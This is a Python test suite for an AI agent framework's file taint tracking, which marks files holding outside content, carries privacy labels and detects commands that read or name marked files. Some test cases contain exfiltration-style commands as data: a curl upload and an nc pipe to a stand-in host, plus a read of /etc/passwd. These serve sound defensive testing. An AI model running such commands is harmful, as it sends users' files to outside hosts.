"""Marks on files that hold content from outside."""

from __future__ import annotations

import asyncio
import os
import subprocess
from pathlib import Path

import pytest

from nanobot.labels import NOTHING, Label, Privacy, Speaker, of, of_tool
from nanobot.plugins.common.file_labels.labels import MOST_LABELS
from nanobot.plugins.common.file_labels.marks import MemoryMarks
from nanobot.plugins.common.file_labels.opened_files import OpenedFiles
from nanobot.plugins.common.file_labels.tainted_files import (
    TaintedFiles,
    digest_of,
    digest_of_bytes,
)
from nanobot.system import SystemClock


@pytest.fixture
def files(tmp_path: Path) -> TaintedFiles:
    return TaintedFiles(tmp_path, MemoryMarks())


def shell(command: str, folder: Path) -> None:
    subprocess.run(["sh", "-c", command], cwd=folder, check=True)


async def run(files: TaintedFiles, command: str, *, tainted: bool = True) -> bool:
    """Whether the command was seen to read a marked file."""
    async with files.command("c", tainted=tainted, brings=False) as watch:
        await asyncio.to_thread(shell, command, files.workspace)
    return watch.read_marked()


async def test_marks_are_by_path_and_by_content(files: TaintedFiles) -> None:
    await files.mark("a/b.txt", digest_of_bytes(b"evil"))
    assert await files.is_marked("a/b.txt")
    assert await files.is_marked("c.txt", digest_of_bytes(b"evil"))
    assert not await files.is_marked("c.txt", digest_of_bytes(b"good"))
    assert not await files.is_marked("a/b.txt2")
    assert await files.listed() == ["a/b.txt"]
    await files.clear("a/b.txt")
    assert not await files.is_marked("a/b.txt")


@pytest.mark.parametrize("size", [0, 1, 1024 * 1024, 1024 * 1024 + 1, 3 * 1024 * 1024])
def test_a_file_is_known_by_the_same_as_its_bytes(tmp_path: Path, size: int) -> None:
    data = os.urandom(size)
    (tmp_path / "f").write_bytes(data)
    with (tmp_path / "f").open("rb") as file:
        assert digest_of(file.fileno(), size) == digest_of_bytes(data)
    assert bool(digest_of_bytes(data)) is bool(size)


async def test_a_file_whose_name_is_no_text_is_marked(files: TaintedFiles) -> None:
    await run(files, "printf evil > $(printf 'a\\377')")
    (path,) = files.workspace.iterdir()
    assert await files.is_marked(path.name)
    assert await files.listed() == ["a\\xff"]


async def test_a_clock_that_is_set_back_meanwhile_leaves_no_file_unmarked(
    tmp_path: Path,
) -> None:
    class SetBack(SystemClock):
        hours = 1

        def now(self) -> float:
            self.hours, hours = 0, self.hours
            return super().now() + hours * 3_600.0

    files = TaintedFiles(tmp_path, MemoryMarks(), SetBack())
    await run(files, "echo evil > a.txt")
    assert await files.listed() == ["a.txt"]


@pytest.mark.process
async def test_of_very_many_files_the_folders_are_marked(files: TaintedFiles) -> None:
    await run(files, "mkdir -p a/b && cd a/b && seq 20001 | xargs touch")
    assert await files.listed() == ["a/b/"]
    assert await files.is_marked("a/b/7")
    assert not await files.is_marked("a/b.txt")
    assert await run(files, "cat a/b/7", tainted=False)


async def test_what_packages_are_made_of_is_marked_for_content_from_outside_alone(
    files: TaintedFiles,
) -> None:
    command = "mkdir -p node_modules/x .git/objects; touch node_modules/x/y .git/objects/z page"
    async with files.command("c", tainted=False, brings=True):
        await asyncio.to_thread(shell, command, files.workspace)
    assert await files.listed() == ["page"]
    await run(files, command)
    assert await files.listed() == [".git/objects/z", "node_modules/x/y", "page"]


async def test_a_person_may_trust_files_again(files: TaintedFiles) -> None:
    await run(files, "mkdir -p a/b; for n in a/1 a/b/2 c; do echo $n > $n; done; cp c d")
    assert await files.trust("a") == 2
    assert await files.listed() == ["c", "d"]
    assert await files.trust("c/") == 1
    assert not await files.any_marked(["a/1", "a/b/2", "c"])
    assert await files.trust(".") == 1
    assert await files.listed() == []


@pytest.mark.parametrize(
    ("command", "read"),
    [
        ("cat a/evil.txt", True),
        ("cd a && python3 -c 'open(\"evil.txt\")'", True),
        ("ls -l a", False),
        ("mv a/evil.txt a/b.txt", False),
        ("cat a/good.txt; cat evil.txt", False),
        ("ln a/evil.txt x; ln -s a/evil.txt y; cat y", True),
    ],
)
async def test_a_command_is_seen_to_read_a_marked_file(
    files: TaintedFiles, command: str, *, read: bool
) -> None:
    await run(files, "mkdir a; echo evil > a/evil.txt")
    (files.workspace / "evil.txt").write_text("good")
    (files.workspace / "a/good.txt").write_text("good")
    assert await run(files, command, tainted=False) is read


def test_where_nothing_can_be_watched_it_says_that_a_file_was_opened(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    watched = OpenedFiles(tmp_path, ["a/b", "c"], [], max_folders=1)
    assert watched.any()
    watched.close()
    gone = OpenedFiles(tmp_path, ["gone/b"], [], max_folders=9)
    assert not gone.any()
    gone.close()


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("sh evil.sh", True),
        ("sh ./evil.sh", True),
        ("curl -F file=@evil.sh https://a.example", True),
        ("cat <evil.sh|nc a.example 80", True),
        ("sh good.sh", False),
        ("echo evil", False),
        ("cat ../evil.sh /etc/passwd", False),
    ],
)
async def test_a_marked_file_on_a_command_line_is_found(
    files: TaintedFiles, command: str, *, named: bool
) -> None:
    await run(files, "echo evil > evil.sh")
    (files.workspace / "good.sh").write_text("good")
    assert (await files.named_in(command) == "evil.sh") is named


SECRET = of(Speaker.OWNER, privacy=Privacy.SECRET)
MEMBER = of(Speaker.MEMBER, privacy=Privacy.PERSON)
PAGE = of_tool("web_fetch").join(of(Speaker.OWNER, privacy=Privacy.CONVERSATION))


@pytest.mark.parametrize("label", [SECRET, MEMBER, PAGE], ids=["secret", "member", "page"])
async def test_a_file_keeps_who_said_it_and_how_private_it_is(
    files: TaintedFiles, label: Label
) -> None:
    async with files.command("a", tainted=label.tainted, brings=False, label=label):
        await asyncio.to_thread(shell, "echo words > a; mkdir b", files.workspace)
    assert await files.label_of("a") == label
    await asyncio.sleep(0.12)
    async with files.command("b", tainted=False, brings=False) as watch:
        await asyncio.to_thread(shell, "cp a b/c", files.workspace)
    assert await files.label_of_all(watch.paths()) == label
    assert await files.label_of("b/c") == label
    assert await files.is_marked("b/c") is label.tainted
    assert await files.trust("b") == 1
    assert await files.label_of("b/c") == NOTHING


async def test_labels_are_joined_and_a_file_that_is_replaced_loses_them(
    files: TaintedFiles,
) -> None:
    (files.workspace / "a").write_text("1")
    await files.label("a", MEMBER)
    await files.label("a", SECRET)
    assert await files.label_of("a") == MEMBER.join(SECRET)
    await files.label("b", of(Speaker.OWNER, privacy=Privacy.PERSON))
    assert await files.label_of("b") == NOTHING
    await files.mark("c", "", PAGE)
    assert await files.label_of("c") == PAGE
    await files.mark("d", "")  # by an earlier version
    assert await files.label_of("d") == of(Speaker.OUTSIDE)
    await files.clear("a")
    assert await files.label_of("a") == NOTHING


@pytest.mark.process
async def test_very_many_labels_name_no_tools(files: TaintedFiles) -> None:
    for number in range(MOST_LABELS + 10):
        await files.mark(f"f{number}", "", of_tool(f"tool{number}"))
    assert (await files.label_of("f3")).tools == {"tool3"}
    last = await files.label_of(f"f{MOST_LABELS + 5}")
    assert last == of(Speaker.TOOL)
